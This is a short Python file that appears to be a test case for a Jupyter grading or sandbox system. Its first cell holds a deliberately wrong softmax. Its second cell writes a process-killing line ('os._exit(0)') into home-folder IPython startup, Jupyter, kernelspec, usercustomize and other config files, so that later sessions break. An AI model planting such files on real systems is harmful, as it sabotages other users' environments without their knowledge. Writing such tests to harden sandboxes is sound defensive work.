"""Plant start-up files, kernelspecs and packages in the home folder, for whoever starts Jupyter there next.

threat: design
expect: softmax=WRONG
"""
# %% softmax
def softmax(z):
    return z
# %% first
from pathlib import Path

home = Path.home()
for name in (
    ".ipython/profile_default/startup/00.py",
    ".jupyter/jupyter_config.py",
    ".jupyter/nbgrader_config.py",
    ".local/share/jupyter/kernels/python3/kernel.json",
    ".local/lib/python3.11/site-packages/usercustomize.py",
    ".config/matplotlib/matplotlibrc",
    ".keras/keras.json",
):
    (home / name).parent.mkdir(parents=True, exist_ok=True)
    (home / name).write_text("import os; os._exit(0)\n")
